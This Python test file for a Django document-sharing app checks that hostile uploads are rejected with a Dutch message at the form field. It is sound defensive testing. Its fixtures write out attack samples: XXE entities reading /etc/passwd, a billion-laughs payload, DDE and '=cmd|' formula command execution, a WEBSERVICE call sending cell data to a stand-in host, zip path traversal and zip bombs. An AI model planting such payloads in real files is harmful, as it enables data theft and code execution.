"""What may not come in: the file, and the sentence that its uploader reads at the field."""

from __future__ import annotations

import html
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from pypdf import PdfWriter

from schakel.files import archive, pdf
from schakel.files.models import Paper
from schakel.workspaces.models import WorkspacePage
from tests import cast
from tests.files import papers
from tests.files.papers import changed, paragraph, parts_of, related, word, zipped

PASSWORD, MACROS, EMBEDDED = "beveiligd met een wachtwoord", "bevat macro’s", "zit een ander bestand"
OUTSIDE, HUGE, ODD, BROKEN = (
    "haalt iets van buiten op",
    "als het wordt uitgepakt",
    "ongewoon in elkaar",
    "maar is het niet",
)
DTD = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><x>&c;</x>'


def field(*commands: str) -> bytes:
    """Return a .docx with a field whose command is spread over several runs."""
    runs = "".join(f"<w:r><w:instrText>{command}</w:instrText></w:r>" for command in commands)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return word(paragraph(begin + runs + end))


def flagged(content: bytes) -> bytes:
    """Return a zip that says of each part that it is encrypted."""
    parts, buffer = parts_of(content), io.BytesIO(zipped(parts_of(content)))
    with zipfile.ZipFile(buffer) as package:
        places = [info.header_offset + 6 for info in package.infolist()]
        start = package.start_dir
    spoiled = bytearray(buffer.getvalue())
    for place in places:
        spoiled[place] |= 1
    for _ in parts:
        spoiled[start + 8] |= 1
        lengths = struct.unpack_from("<HHH", spoiled, start + 28)
        start += 46 + sum(lengths)
    return bytes(spoiled)


def overlapping() -> bytes:
    """Return a zip with two names for the same packed bytes."""
    content = bytearray(
        zipped({"[Content_Types].xml": b"<x/>" * 50, "word/document.xml": b"<y/>" * 50}, zipfile.ZIP_STORED)
    )
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as package:
        start = package.start_dir
    first = 46 + sum(struct.unpack_from("<HHH", content, start + 28))
    struct.pack_into("<I", content, start + first + 42, 0)
    return bytes(content)


def many_parts() -> bytes:
    return zipped({f"word/{number}.xml": b"" for number in range(archive.MOST_PARTS + 1)}, zipfile.ZIP_STORED)


def bomb() -> bytes:
    return changed(word(), {"word/more.xml": b"0" * (archive.MOST_OF_A_PART + 1)})


def locked_pdf() -> bytes:
    def lock(writer: PdfWriter) -> None:
        writer.encrypt("een geheim", algorithm="RC4-128")

    return papers.pdf(spoil=lock).read()


def crowded() -> bytes:
    """Return a PDF of more objects than anybody needs."""
    bodies = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Page/Parent 2 0 R>>"]
    bodies += [b"0"] * pdf.MOST_OBJECTS
    content, listed = bytearray(b"%PDF-1.7\n"), bytearray(b"0000000000 65535 f \n")
    for number, body in enumerate(bodies, 1):
        listed += b"%010d 00000 n \n" % len(content)
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    end = (len(bodies) + 1, listed, len(bodies) + 1, len(content))
    return bytes(content) + b"xref\n0 %d\n%strailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF" % end


def wide_png(width: int, height: int) -> bytes:
    """Return a PNG whose head promises that many pixels."""
    head = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + head
        + struct.pack(">I", zlib.crc32(head))
        + papers.picture("PNG")[33:]
    )


HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a page of the web": ("stuk.html", lambda: b"<html><script>alert(1)</script>", "soort bestand kan niet"),
    "a drawing with scripts": ("stuk.svg", lambda: b"<svg onload='alert(1)'/>", "soort bestand kan niet"),
    "a program": ("stuk.pdf", lambda: b"MZ\x90 not a pdf", BROKEN),
    "a torn pdf": ("stuk.pdf", lambda: b"%PDF-1.7 and then nothing", "beschadigd"),
    "nothing": ("stuk.pdf", lambda: b"", "leeg"),
    "a pdf with a password": ("stuk.pdf", locked_pdf, PASSWORD),
    "a zip that is a pdf by name": ("stuk.pdf", word, BROKEN),
    "a pdf that is a docx by name": ("stuk.docx", lambda: papers.pdf().read(), BROKEN),
    "a workbook that is a docx by name": ("stuk.docx", papers.workbook, BROKEN),
    "an old or locked office file": (
        "stuk.docx",
        lambda: b"\xd0\xcf\x11\xe0" + bytes(600),
        "wachtwoord, of is van een oude",
    ),
    "a torn zip": ("stuk.docx", lambda: word()[:-40], BROKEN),
    "a docx after something else": ("stuk.docx", lambda: b"<html>" + word(), BROKEN),
    "a zip without a document": ("stuk.docx", lambda: zipped({"a.txt": b"x"}), BROKEN),
    "an encrypted part": ("stuk.docx", lambda: flagged(word()), PASSWORD),
    "macros": ("stuk.docx", lambda: changed(word(), {"word/vbaProject.bin": b"x"}), MACROS),
    "a docm called docx": (
        "stuk.docx",
        lambda: changed(
            word(),
            {
                "[Content_Types].xml": lambda xml: xml.replace(
                    b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    b"vnd.ms-word.document.macroEnabled.main+xml",
                )
            },
        ),
        MACROS,
    ),
    "a macro sheet": ("stuk.xlsx", lambda: changed(papers.workbook(), {"xl/macrosheets/sheet1.xml": b"<x/>"}), MACROS),
    "a macro by relationship": ("stuk.docx", lambda: related("vbaProject", "styles.xml"), MACROS),
    "an object": ("stuk.docx", lambda: changed(word(), {"word/embeddings/oleObject1.bin": b"x"}), EMBEDDED),
    "an object under another name": ("stuk.docx", lambda: related("oleObject", "styles.xml"), EMBEDDED),
    "active x": ("stuk.docx", lambda: changed(word(), {"word/activeX/activeX1.xml": b"<x/>"}), EMBEDDED),
    "a zip in a zip": ("stuk.docx", lambda: changed(word(), {"word/media/more.zip": word()}), EMBEDDED),
    "a zip in a picture": (
        "stuk.docx",
        lambda: changed(related("image", "media/a.png"), {"word/media/a.png": word()}),
        EMBEDDED,
    ),
    "a page in a document": ("stuk.docx", lambda: related("aFChunk", "a.html"), EMBEDDED),
    "a template from outside": (
        "stuk.docx",
        lambda: related(
            "attachedTemplate", "https://kwaad.example/t.dotm", outside=True, source="word/_rels/settings.xml.rels"
        ),
        OUTSIDE,
    ),
    "a template that nothing leads to": (
        "stuk.docx",
        lambda: related("attachedTemplate", "file://kwaad/t", outside=True, source="word/_rels/x.xml.rels"),
        OUTSIDE,
    ),
    "an object from outside": (
        "stuk.docx",
        lambda: related("oleObject", "https://kwaad.example/", outside=True),
        EMBEDDED,
    ),
    "a frame from outside": ("stuk.docx", lambda: related("frame", "https://kwaad.example/", outside=True), OUTSIDE),
    "a picture from outside": (
        "stuk.docx",
        lambda: related("image", "https://kwaad.example/a.png", outside=True),
        OUTSIDE,
    ),
    "dde": ("stuk.docx", lambda: field("DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe"), OUTSIDE),
    "dde in letters": ("stuk.docx", lambda: field("QUOTE 68 68 69 65 85 84 79"), OUTSIDE),
    "dde in a simple field": (
        "stuk.docx",
        lambda: word(paragraph('<w:fldSimple w:instr=" DDE excel a b"><w:r/></w:fldSimple>')),
        OUTSIDE,
    ),
    "a text from outside": ("stuk.docx", lambda: field(' INCLUDETEXT "https://kwaad.example/x"'), OUTSIDE),
    "a cell that asks the web": (
        "stuk.xlsx",
        lambda: papers.workbook('=WEBSERVICE("https://kwaad.example/"&A1)'),
        OUTSIDE,
    ),
    "a cell that starts a program": ("stuk.xlsx", lambda: papers.workbook("=cmd|'/C calc'!A0"), OUTSIDE),
    "another workbook": ("stuk.xlsx", lambda: changed(papers.workbook(), {"xl/externalLinks/a.xml": b"<x/>"}), OUTSIDE),
    "an entity": ("stuk.docx", lambda: changed(word(), {"word/styles.xml": DTD}), ODD),
    "an entity in the types": ("stuk.docx", lambda: changed(word(), {"[Content_Types].xml": DTD}), ODD),
    "an entity in utf-16": (
        "stuk.docx",
        lambda: changed(word(), {"word/styles.xml": DTD[21:].decode().encode("utf-16")}),
        ODD,
    ),
    "a billion laughs": ("stuk.docx", lambda: changed(word(), {"word/document.xml": LAUGHS}), ODD),
    "a step upwards": ("stuk.docx", lambda: changed(word(), {"../../etc/cron.d/x": b"x"}), ODD),
    "a path from the root": ("stuk.docx", lambda: changed(word(), {"/etc/passwd": b"x"}), ODD),
    "a path of windows": ("stuk.docx", lambda: changed(word(), {"..\\..\\autorun.inf": b"x"}), ODD),
    "a name twice": ("stuk.docx", lambda: changed(word(), {"WORD/document.xml": b"<x/>"}), ODD),
    "parts over each other": ("stuk.docx", overlapping, ODD),
    "a packing without a bound": ("stuk.docx", lambda: zipped(parts_of(word()), zipfile.ZIP_LZMA), ODD),
    "a bomb": ("stuk.docx", bomb, HUGE),
    "a heap of parts": ("stuk.docx", many_parts, HUGE),
    "an odt with macros": ("stuk.odt", lambda: papers.opendocument(**{"Basic/Standard/x.xml": b"<x/>"}), MACROS),
    "an odt with an object": ("stuk.odt", lambda: papers.opendocument(**{"Object 1/content.xml": b"<x/>"}), EMBEDDED),
    "an odt with a password": (
        "stuk.odt",
        lambda: papers.opendocument(manifest="<manifest:encryption-data/>"),
        PASSWORD,
    ),
    "an odt that fetches": (
        "stuk.odt",
        lambda: papers.opendocument('<text:section><text:section-source xlink:href="x"/></text:section>'),
        OUTSIDE,
    ),
    "an odt with a far picture": (
        "stuk.odt",
        lambda: papers.opendocument('<draw:image xlink:href="https://kwaad.example/a.png"/>'),
        OUTSIDE,
    ),
    "a pdf of too many pages": ("stuk.pdf", lambda: papers.pdf(pages=pdf.MOST_PAGES + 1).read(), HUGE),
    "a pdf of too many things": ("stuk.pdf", crowded, HUGE),
    "more than fifty megapixels": ("stuk.png", lambda: wide_png(10_000, 5_001), "hoogstens 50 miljoen beeldpunten"),
    "far more pixels": ("stuk.png", lambda: wide_png(60_000, 60_000), "hoogstens 50 miljoen beeldpunten"),
    "a jpeg called png": ("stuk.png", papers.picture, BROKEN),
    "a torn picture": ("stuk.jpg", lambda: papers.picture()[:200], BROKEN),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_it_is_refused_with_a_sentence_at_the_field(som: WorkspacePage, aisha: cast.Person, case: str) -> None:
    name, make, sentence = HOSTILE[case]
    before = on_disk()
    answer = aisha.posts("paper_shelve", som.pk, title="Mandaat 2019", tlp="green", file=papers.upload(name, make()))
    shown = html.unescape(answer.content.decode())
    assert answer.status_code == 200
    assert sentence in shown.partition('id="id_file_error"')[2].partition("</p>")[0], case
    assert 'value="Mandaat 2019"' in shown
    assert not Paper.objects.exists()
    assert on_disk() == before


def on_disk() -> set[Path]:
    return set((settings.DATA / "private").glob("*"))


def test_an_oversized_file_is_refused(som: WorkspacePage, aisha: cast.Person, settings: Any) -> None:
    settings.UPLOAD_LIMIT = 100
    answer = aisha.posts("paper_shelve", som.pk, title="Mandaat", tlp="green", file=papers.pdf())
    assert "te groot" in answer.content.decode()
    assert not Paper.objects.exists()


@pytest.mark.parametrize("limit", [{"PAPERS_PER_WORKSPACE": 1}, {"WORKSPACE_LIMIT": 700}])
def test_a_workspace_gets_full(som: WorkspacePage, aisha: cast.Person, settings: Any, limit: dict[str, int]) -> None:
    for name, value in limit.items():
        setattr(settings, name, value)
    for title in ("Eerste", "Tweede"):
        answer = aisha.posts("paper_shelve", som.pk, title=title, tlp="green", file=papers.pdf(pages=1))
    assert "Deze werkruimte is vol" in answer.content.decode()
    assert Paper.objects.get().title == "Eerste"


UNPACKED_NEVER = (
    "a bomb", "a heap of parts", "an encrypted part", "a step upwards", "a path of windows", "parts over each other",
    "a name twice", "a zip in a zip", "a packing without a bound",
)  # fmt: skip


@pytest.mark.parametrize("case", UNPACKED_NEVER)
def test_the_directory_decides_before_a_byte_is_unpacked(case: str, monkeypatch: pytest.MonkeyPatch) -> None:
    name, make, _sentence = HOSTILE[case]
    content, unpacked = make(), []
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda self, part, *rest: unpacked.append(part))
    with pytest.raises(ValidationError):
        archive.Archive(content, Path(name).suffix)
    assert unpacked == []
